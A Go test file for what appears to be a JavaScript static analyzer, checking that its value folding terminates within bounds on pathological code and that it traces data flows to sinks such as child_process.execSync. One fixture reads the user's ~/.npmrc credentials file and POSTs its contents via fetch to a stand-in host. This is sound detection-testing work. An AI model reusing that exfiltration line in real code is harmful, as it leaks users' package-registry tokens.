package facts_test

import (
	"fmt"
	"strings"
	"testing"
)

// TestFoldingEnds: code that was written to be folded for ever is folded for
// a while. A case that did not end would run into the test's own deadline.
func TestFoldingEnds(t *testing.T) {
	doubling := "let s0 = x ? 'a' : 'b';\n"
	for i := 1; i <= 40; i++ {
		doubling += fmt.Sprintf("const s%d = s%d + '/' + s%d;\n", i, i-1, i-1)
	}
	pick := "undefined"
	for i := range 40 {
		pick = fmt.Sprintf("x%d ? 'v%02d' : %s", i, i, pick)
	}
	ring := ""
	for i := range 50 {
		ring += fmt.Sprintf("o%d.next = o%d; ", i, (i+1)%50)
	}
	names := make([]string, 50)
	for i := range names {
		names[i] = fmt.Sprintf("o%d = {k: 'v'}", i)
	}
	for _, c := range []struct{ name, code, arg string }{
		{"doubling concatenation", doubling, "s40"},
		{"self-appending", "let s = 'a'; while (x) s += s + '/b';", "s"},
		{"mutual appending", "let a = 'a', b = 'b'; while (x) { a += b; b += a; }", "a + b"},
		{"self-joining", "const path = require('path'); let p = '/'; for (;;) p = path.join(p, '..', p);", "p"},
		{"recursive function", "function f(s) { return x ? s : f(s + '/' + s); }", "f('a')"},
		{"mutual recursion", "const f = (s) => g(s + 'f'), g = (s) => x ? s : f(s + 'g');", "f('a')"},
		{"cyclic object", "const o = {a: 'v'}; o.self = o; o.list = [o, o];", "o"},
		{"ring of objects", "const " + strings.Join(names, ", ") + "; " + ring, "o0"},
		{"cyclic list", "const l = []; l.push(l, 'a');", "l"},
		{"self-spread", "let o = {a: 'v'}; for (;;) o = {...o, b: o};", "o"},
		{"many alternatives", "const v = " + pick + ";", "v"},
		{"many alternatives, often", "const v = " + pick + ";", strings.Repeat("v + ", 20) + "v"},
		{"long concatenation", "const x = 'a', y = unknown;", strings.Repeat("x + y + ", 3000) + "x"},
		{"deep parentheses", "", strings.Repeat("(", 500) + "'a'" + strings.Repeat(")", 500)},
		{"setting of a setting", "const c = require('vscode').workspace.getConfiguration('a'); let k = 'b'; for (;;) k = c.get(k);", "k"},
		{"prototype ring", "function A() {} function B() {} A.prototype = new B(); B.prototype = new A();", "new A().x"},
		{"proxy of itself", "const p = new Proxy({}, {get: (t, k) => p[k] + k});", "p.a"},
		{"getter of itself", "const o = {get a() { return this.a + 'x'; }};", "o.a"},
		{"wide object", "const o = {" + strings.Repeat("['k' + x]: 'v', ", 2000) + "};", "o"},
		{"wide list", "const o = [" + strings.Repeat("'v', ", 2000) + "];", "o"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := analyze(t, files{"main.js": c.code + "\nrequire('child_process').execSync(" + c.arg + ");\n"})
			found := calls(p, "child_process.execSync")
			if len(found) != 1 || len(found[0].Args) != 1 {
				t.Fatalf("the call is found %d times", len(found))
			}
			v := found[0].Args[0]
			if len(v.Alts) > 32 || len(v.Items) > 48 || len(v.Props) > 24 {
				t.Errorf("%d alternatives, %d items and %d properties are over the bounds", len(v.Alts), len(v.Items), len(v.Props))
			}
			for _, a := range v.Alts {
				if len(a) > 25 {
					t.Errorf("an alternative has %d parts", len(a))
				}
				if n := len(a.String()); n > 1<<20 {
					t.Errorf("an alternative has %d bytes", n)
				}
			}
			t.Logf("%.200s", show(v))
		})
	}
}

// TestMoreAlternativesThanTheBoundAreOpen: what is cut off is said.
func TestMoreAlternativesThanTheBoundAreOpen(t *testing.T) {
	for _, c := range []struct {
		count int
		open  bool
	}{{2, false}, {32, false}, {33, true}, {50, true}} {
		code := "'v'"
		for i := 1; i < c.count; i++ {
			code = fmt.Sprintf("x ? 'v%d' : %s", i, code)
		}
		p := analyze(t, files{"main.js": "require('fs').readFileSync(" + code + ")"})
		v := calls(p, "fs.readFileSync")[0].Args[0]
		if v.Open != c.open || len(v.Alts) != min(c.count, 32) {
			t.Errorf("%d alternatives fold to %d, open %v", c.count, len(v.Alts), v.Open)
		}
	}
}

// TestAHelperIsNobodysElse: a helper that hands on what it is given mixes nobody's values, however much of the
// program was copied for other callers before.
func TestAHelperIsNobodysElse(t *testing.T) {
	var code strings.Builder
	code.WriteString(`const { id } = require('./a.js')
for (const n of [id(Map), id(Set), id(Date), id(Number), id(Error)]) n.name
const text = id(String), run = id(require('child_process').execSync), list = id(Array)
text(process.argv[2])
list(process.argv[3])
`)
	code.WriteString("function large(a) { const o = {};")
	for i := range 14 {
		fmt.Fprintf(&code, " o.p%d = a.q%d;", i, i)
	}
	code.WriteString(" return o; }\n")
	for i := range 900 {
		fmt.Fprintf(&code, "exports.x%d = large({q0: %d});\n", i, i)
	}
	for name, more := range map[string]string{"": "", "run('ls')": "run('ls')\n"} {
		p := analyze(t, files{"main.js": code.String() + more, "a.js": "module.exports = require('./b.js')\n",
			"b.js": "module.exports = { ...require('./c.js') }\n", "c.js": "exports.id = function (n) { return n || 0 }\n"})
		want := 0
		if more != "" {
			want = 1
		}
		if found := calls(p, "child_process.execSync"); len(found) != want {
			t.Errorf("with %q: %d calls start a program, want %d", name, len(found), want)
		}
	}
}

// TestFollowingSubjectsEnds: the pipes of a library lead back to where they begin, and each is followed once.
func TestFollowingSubjectsEnds(t *testing.T) {
	code := "const { Subject } = require('a-library');\nconst o = new Subject();\nlet p = o;\nwhile (x) {\n" +
		strings.Repeat("p = p.pipe((x) => x);\n", 60) +
		"}\np.subscribe((text) => fetch('https://a.example/in', { method: 'POST', body: text }));\n" +
		"o.next(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));\n"
	p := analyze(t, files{"main.js": code})
	for _, f := range p.Trails {
		if f.Sink.Module == "globals" && f.Sink.Member == "fetch" {
			return
		}
	}
	t.Errorf("what the subject is told is not followed to who hears it: %v", p.Trails)
}
